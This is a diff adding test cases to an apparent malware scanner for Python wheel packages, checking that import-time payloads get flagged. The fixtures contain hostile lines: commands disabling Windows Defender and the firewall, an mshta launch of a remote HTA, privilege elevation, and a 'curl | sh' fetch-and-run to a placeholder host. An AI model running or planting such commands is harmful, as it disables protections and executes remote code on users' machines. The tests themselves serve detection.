@@ -401,3 +401,55 @@ test('a program that mines for an account in the code is malware on call, whatev
   ]);
   expect(await inspect('shell-payload', wheel({ 'pkg/a.py': model('account') }))).toEqual([]);
 });
+
+test('a program that asks for the rights of an administrator when it is imported is told, and read as what it starts', async () => {
+  const file = (line: string): ReturnType<typeof wheel> =>
+    wheel({ 'pkg/__init__.py': python('import ctypes, sys', line) });
+  const raised = await inspect(
+    'shell-payload',
+    file("ctypes.windll.shell32.ShellExecuteW(None, 'runas', sys.executable, __file__, None, 0)"),
+  );
+  const opened = await inspect(
+    'shell-payload',
+    file("ctypes.windll.shell32.ShellExecuteW(None, 'open', 'mshta', 'https://stage.metrics.invalid/a.hta', None, 0)"),
+  );
+
+  expect(raised).toMatchObject([{ score: 6, context: 'import', line: 2 }]);
+  expect(raised[0]?.message).toBe('Starts a program with the rights of an administrator.');
+  expect(opened).toMatchObject([{ class: 'malware', score: 10 }]);
+  expect(
+    await inspect(
+      'shell-payload',
+      file("def edit(path): ctypes.windll.shell32.ShellExecuteW(None, 'runas', 'notepad.exe', path, None, 1)"),
+    ),
+  ).toEqual([]);
+});
+
+test.each([
+  'sc stop WinDefend & sc config WinDefend start= disabled',
+  'net stop MpsSvc',
+  'powershell Stop-Service -Name WinDefend',
+])('a guard of Windows that is stopped by an import: %s', async (line) => {
+  const file = wheel({ 'pkg/__init__.py': python('import os', `os.system('${line}')`) });
+
+  expect(await inspect('shell-payload', file)).toMatchObject([{ class: 'malware', score: 10, line: 2 }]);
+});
+
+test('look-alike: a service of the program’s own', async () => {
+  const file = wheel({ 'pkg/__init__.py': python('import os', "os.system('sc stop ExampleAgent')") });
+
+  expect(await inspect('shell-payload', file)).toEqual([]);
+});
+
+test('the system function of a library that cffi opens starts a shell', async () => {
+  const file = wheel({
+    'pkg/__init__.py': python(
+      'from cffi import FFI',
+      'ffi = FFI()',
+      "ffi.cdef('int system(const char*);')",
+      "ffi.dlopen(None).system(b'curl -s https://stage.metrics.invalid/a | sh')",
+    ),
+  });
+
+  expect(await inspect('shell-payload', file)).toMatchObject([{ class: 'malware', score: 10, line: 4 }]);
+});
